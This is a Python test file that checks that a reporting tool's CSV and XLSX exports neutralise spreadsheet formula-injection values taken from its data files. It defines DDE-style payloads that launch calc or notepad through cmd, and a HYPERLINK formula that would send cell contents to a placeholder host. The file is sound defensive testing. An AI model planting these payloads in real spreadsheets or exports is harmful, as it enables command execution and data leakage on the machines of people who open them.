"""Spreadsheet formula injection: ids, labels and category codes from the data that
start with =, +, -, @, tab or CR reach the CSV and XLSX downloads as inert text,
while every number stays a number.

The hostile values go in through the data files (so the loader, the engine and the
exports all take part), not through hand-built records.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import openpyxl
import pytest

from generator import export
from generator.engine import evaluasi
from generator.validate import periksa

BASE = Path(__file__).parent / "bad_input" / "base"
A = "opd/dinas-a"

# Element, indicator, label and category payloads (CSV-quoted where they hold commas).
SASARAN = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
INDIKATOR = "@SUM(1+1)*cmd|' /C calc'!A0"
INDIKATOR_2 = "+1+cmd|' /C notepad'!A0"
PROGRAM = "-2+3+cmd|' /C calc'!A0"
LABEL = "=1+1"
KODE_BAIK = "=2+5"
KODE_BURUK = "-1+1"
PEMICU = "=+-@\t\r"


def _ganti(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new), encoding="utf-8")


def _q(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture(scope="module")
def berkas(tmp_path_factory) -> dict[str, bytes]:
    data = tmp_path_factory.mktemp("injeksi") / "data"
    shutil.copytree(BASE, data)
    a = data / A
    # Element ids: the sasaran (efisiensi.sasaran, anggaran.elemen) and the program.
    _ganti(a / "indikator.csv", ",ss1,", f",{_q(SASARAN)},")
    _ganti(a / "struktur.csv", "Program penunjang,ss1", f"Program penunjang,{_q(SASARAN)}")
    _ganti(a / "struktur.csv", "ss1,sasaran,", f"{_q(SASARAN)},sasaran,")
    _ganti(a / "struktur.csv", "pr1,program,", f"{_q(PROGRAM)},program,")
    _ganti(a / "struktur.csv", "Administrasi keuangan,pr1", f"Administrasi keuangan,{_q(PROGRAM)}")
    _ganti(a / "indikator.csv", "dok,pr1,", f"dok,{_q(PROGRAM)},")
    # Indicator ids (capaian.indikator).
    for name in ("indikator.csv", "target.csv", "realisasi.csv"):
        text = (a / name).read_text(encoding="utf-8").splitlines(keepends=True)
        out = []
        for line in text:
            if line.startswith("ikm,"):
                out.append(_q(INDIKATOR) + line[3:])
            elif line.startswith("aduan,"):
                out.append(_q(INDIKATOR_2) + line[5:])
            else:
                out.append(line)
        (a / name).write_text("".join(out), encoding="utf-8")
    # A predikat label of the capaian scale, and category codes of the rb scale.
    (data / "skala.yaml").write_text(
        (data / "skala.yaml").read_text(encoding="utf-8").replace("{kode: AA, min: 90, label: AA}", f"{{kode: '{KODE_BAIK}', min: 90, label: AA}}")
        .replace("{kode: B, label: B}", f"{{kode: '{KODE_BURUK}', label: B}}")
        + f"capaian:\n  - {{label: '{LABEL}', min: 91}}\n  - {{label: Lain}}\n",
        encoding="utf-8",
    )
    _ganti(a / "target.csv", "rb,2024,renja,tahunan,BB", f"rb,2024,renja,tahunan,{KODE_BURUK}")
    _ganti(a / "realisasi.csv", "rb,2024,tahunan,A,", f"rb,2024,tahunan,{KODE_BAIK},")
    dataset, laporan = periksa(data)
    assert not laporan.ada_galat, [str(p) for p in laporan.urut()]
    return export.berkas_ekspor(list(evaluasi(dataset).values()), "unduh/", xlsx=True)


def _csv(berkas, name):
    return list(csv.DictReader(io.StringIO(berkas[f"unduh/{name}.csv"].decode("utf-8"))))


def _xlsx(berkas, name):
    ws = openpyxl.load_workbook(io.BytesIO(berkas[f"unduh/{name}.xlsx"])).active
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    return [dict(zip(header, r)) for r in rows[1:]]


def test_payloads_reach_the_exports(berkas):
    ids = {r["indikator"] for r in _csv(berkas, "capaian")}
    assert {"'" + INDIKATOR, "'" + INDIKATOR_2} <= ids
    assert "'" + SASARAN in {r["sasaran"] for r in _csv(berkas, "efisiensi")}
    assert "'" + PROGRAM in {r["elemen"] for r in _csv(berkas, "anggaran")}
    assert "'" + LABEL in {r["predikat"] for r in _csv(berkas, "capaian")}
    rb = next(r for r in _csv(berkas, "capaian") if r["indikator"] == "rb")
    assert (rb["target"], rb["realisasi"]) == ("'" + KODE_BURUK, "'" + KODE_BAIK)


@pytest.mark.parametrize("name", ["capaian", "anggaran", "ringkasan", "efisiensi"])
def test_csv_no_cell_starts_a_formula(berkas, name):
    for row in _csv(berkas, name):
        for kolom, value in row.items():
            if value and value[0] in PEMICU:
                # Only a plain machine number may start with '-'.
                assert kolom in export.ANGKA and value[0] == "-", (kolom, value)
                float(value)


@pytest.mark.parametrize("name", ["capaian", "anggaran", "ringkasan", "efisiensi"])
def test_xlsx_text_cells_are_inert_and_numbers_stay_numbers(berkas, name):
    for row in _xlsx(berkas, name):
        for kolom, cell in row.items():
            assert cell.data_type != "f", (kolom, cell.value)  # never a formula cell
            if isinstance(cell.value, str):
                assert cell.value[0] not in PEMICU, (kolom, cell.value)
            if kolom in ("tahun", "pagu", "serapan", "capaian") and cell.value is not None:
                assert cell.data_type == "n" and isinstance(cell.value, (int, float)), (kolom, cell.value)


def test_numbers_are_untouched_next_to_payloads(berkas):
    """Negative numbers (efisiensi, pertumbuhan, sisa) keep their sign and stay numbers."""
    rows = {(r["opd"], r["indikator"], r["tahun"], r["periode"]): r for r in _csv(berkas, "capaian")}
    ikm = rows[("dinas-a", "'" + INDIKATOR, "2024", "tahunan")]
    assert (ikm["target"], ikm["realisasi"], ikm["capaian"]) == ("86", "87.25", "101.45")
    aduan = rows[("dinas-a", "'" + INDIKATOR_2, "2024", "tahunan")]
    assert (aduan["target"], aduan["realisasi"], aduan["capaian"]) == ("10", "8", "120.00")
    # Best of 4 bands against the worst: score 4 / 1 × 100, above the hostile label's min 91.
    rb = rows[("dinas-a", "rb", "2024", "tahunan")]
    assert (rb["capaian"], rb["predikat"]) == ("400.00", "'" + LABEL)
    x = {(r["elemen"].value, r["tahun"].value): r for r in _xlsx(berkas, "anggaran")}
    program = x[("'" + PROGRAM, 2024)]
    assert program["pagu"].value == 2250000 and program["realisasi"].value == 2150000
    assert program["sisa"].value == 100000


def test_json_keeps_the_text_exact(berkas):
    """JSON is not a spreadsheet: the same values appear as written, as strings."""
    parsed = json.loads(berkas["unduh/capaian.json"])
    assert {INDIKATOR, INDIKATOR_2} <= {r["indikator"] for r in parsed}
    rb = next(r for r in parsed if r["indikator"] == "rb" and r["periode"] == "tahunan")
    assert (rb["target"], rb["realisasi"]) == (KODE_BURUK, KODE_BAIK)
